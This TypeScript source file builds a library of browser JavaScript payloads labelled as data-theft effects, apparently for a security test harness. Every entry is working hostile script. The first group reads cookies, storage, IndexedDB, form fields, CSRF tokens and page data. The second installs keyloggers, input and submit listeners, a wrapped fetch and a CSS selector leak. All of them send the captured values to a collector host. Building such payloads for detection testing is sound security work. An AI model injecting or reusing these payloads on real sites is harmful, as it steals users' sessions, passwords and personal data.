import { type At, quoted } from '../at.ts'
import { type Effect, effectsOf } from './effect.ts'

const sends = (expression: string) => (at: At) => at.send(expression)
const then = (promise: string, expression: string) => (at: At) =>
  `${promise}.then(function(r){${at.send(expression)}}).catch(function(){})`
const listen = (target: string, event: string, expression: string) => (at: At) =>
  `${target}.addEventListener('${event}',function(e){${at.send(expression)}},true)`

const stolen = effectsOf(
  'data-theft',
  'secret',
  {
    cookie: sends('document.cookie'),
    "the page's cookie": sends('D.cookie'),
    'cookie by the getter': sends("Object.getOwnPropertyDescriptor(Document.prototype,'cookie').get.call(D)"),
    'cookie of a fresh frame': (at) =>
      `var f=document.createElement('iframe');f.style.display='none';(document.body||document.documentElement).appendChild(f);${at.send('f.contentDocument.cookie')}`,
    'cookie store': then('W.cookieStore.getAll()', 'JSON.stringify(r)'),
    'local storage': sends('JSON.stringify(localStorage)'),
    "the page's local storage": sends("W.localStorage.getItem('account')"),
    'local storage by key': sends('W.localStorage.account'),
    'local storage, one by one': (at) =>
      `for(var i=0;i<W.localStorage.length;i++){var k=W.localStorage.key(i);${at.send('W.localStorage.getItem(k)')}}`,
    'session storage': sends("W.sessionStorage.getItem('basket')"),
    'all of session storage': sends('JSON.stringify(Object.assign({},sessionStorage))'),
    database: (at) =>
      `var o=indexedDB.open('shop');o.onsuccess=function(){var g=o.result.transaction('user').objectStore('user').getAll();g.onsuccess=function(){${at.send('JSON.stringify(g.result)')}}}`,
    'cached answer': (at) =>
      `W.caches.match('/private').then(function(r){return r.text()}).then(function(t){${at.send('t')}})`,
    'value of a field': sends("D.getElementById('email').value"),
    'all fields': sends("Array.from(D.querySelectorAll('input'),function(i){return i.value}).join()"),
    'form data': sends('new URLSearchParams(new W.FormData(D.forms[0])).toString()'),
    'value by the getter': sends(
      "Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value').get.call(D.getElementById('email'))",
    ),
    'hidden field': sends("D.querySelector('[name=csrf]').value"),
    'meta data': sends("D.querySelector('meta[name=csrf-token]').content"),
    'text of the page': sends("D.getElementById('private').textContent"),
    'all text of the page': sends('D.body.innerText'),
    'markup of the page': sends("D.getElementById('private').outerHTML"),
    'serialised page': sends("new XMLSerializer().serializeToString(D.getElementById('private'))"),
    'range of the page': (at) =>
      `var r=D.createRange();r.selectNode(D.getElementById('private'));${at.send('r.toString()')}`,
    'variable of the page': sends('W.account.token'),
    'all variables of the page': sends(
      "Object.keys(W).map(function(k){try{return JSON.stringify(W[k])}catch(e){return ''}}).join().slice(0,6000)",
    ),
    'state of the page': sends('JSON.stringify(W.history.state)'),
    'page data by fetch': (at) =>
      `fetch('/account').then(function(r){return r.text()}).then(function(t){${at.send('t')}})`,
    "page data by the page's fetch": (at) =>
      `W.fetch('/account').then(function(r){return r.json()}).then(function(t){${at.send('t.token')}})`,
    'page data by XHR': (at) =>
      `var x=new W.XMLHttpRequest();x.open('GET','/account');x.onload=function(){${at.send('x.responseText')}};x.send()`,
    'page data in a frame': (at) =>
      `var f=D.createElement('iframe');f.style.display='none';f.src='/account';f.onload=function(){${at.send('f.contentDocument.body.textContent')}};D.body.appendChild(f)`,
    'style that reads a field': (at) =>
      `var t='';'abcdefghijklmnopqrstuvwxyz'.split('').forEach(function(c){t+='#email[value^="'+c+'"]{background:url(${at.url('css')}/'+c+')}'});var y=D.createElement('style');y.textContent=t;D.head.appendChild(y)`,
    'window name': sends('W.name'),
    'text in the page': (at) => `W.eval(${quoted(`new Image().src=${quoted(at.url('c'))}+'?'+document.cookie`)})`,
  },
  { isNeverMeant: true },
)

const typed = effectsOf(
  'data-theft',
  'typed',
  {
    'key listener': (at) =>
      `var b='';D.addEventListener('keydown',function(e){e.key.length===1&&(b+=e.key);b.length>9&&(function(){${at.send('b')}})()})`,
    'key listener on the window': (at) =>
      `var b='';W.addEventListener('keypress',function(e){b+=e.key;b.length>9&&(function(){${at.send('b')}})()},true)`,
    'key property': (at) =>
      `var b='';D.onkeyup=function(e){e.key.length===1&&(b+=e.key);b.length>9&&(function(){${at.send('b')}})()}`,
    'input listener': listen('D', 'input', 'e.target.value'),
    'input listener on the field': listen("D.getElementById('password')", 'input', 'e.target.value'),
    'input property of the field': (at) => `D.getElementById('password').oninput=function(){${at.send('this.value')}}`,
    'before input': (at) =>
      `var b='';D.addEventListener('beforeinput',function(e){b+=e.data||'';b.length>9&&(function(){${at.send('b')}})()})`,
    'change listener': listen('D', 'change', 'e.target.value'),
    'blur listener': listen('D', 'blur', "e.target.value||''"),
    'focus out listener': listen('D.body', 'focusout', "e.target.value||''"),
    polling: (at) =>
      `setInterval(function(){var t=D.getElementById('password').value;t.length>9&&(function(){${at.send('t')}})()},60)`,
    'drawing loop': (at) =>
      `var s=0;(function l(){var t=D.getElementById('password').value;t.length>9&&!s&&(s=1,(function(){${at.send('t')}})());requestAnimationFrame(l)})()`,
    'submit listener': (at) =>
      `D.addEventListener('submit',function(e){${at.send('new URLSearchParams(new FormData(e.target)).toString()')}},true)`,
    'form data listener': (at) =>
      `D.addEventListener('formdata',function(e){${at.send('new URLSearchParams(e.formData).toString()')}},true)`,
    'attribute on the field': (at) =>
      `D.getElementById('password').setAttribute('oninput',${quoted(`this.value.length>9&&(new Image().src=${quoted(`${at.url('c')}?`)}+this.value)`)})`,
    "the page's fetch is wrapped": (at) =>
      `var n=W.fetch;W.fetch=function(u,o){${at.send("String(o&&o.body||'')")};return n.apply(this,arguments)}`,
    'listener of a fresh frame': (at) =>
      `var f=D.createElement('iframe');f.style.display='none';D.body.appendChild(f);D.addEventListener('input',f.contentWindow.Function('e',${quoted(`e.target.value.length>9&&(new Image().src=${quoted(`${at.url('c')}?`)}+e.target.value)`)}))`,
    'listener by text in the page': (at) =>
      `W.eval(${quoted(`addEventListener('input',function(e){e.target.value.length>9&&(new Image().src=${quoted(`${at.url('c')}?`)}+e.target.value)})`)})`,
  },
  { isNeverMeant: true, isEarly: true },
)

export const dataThefts: Effect[] = [...stolen, ...typed]
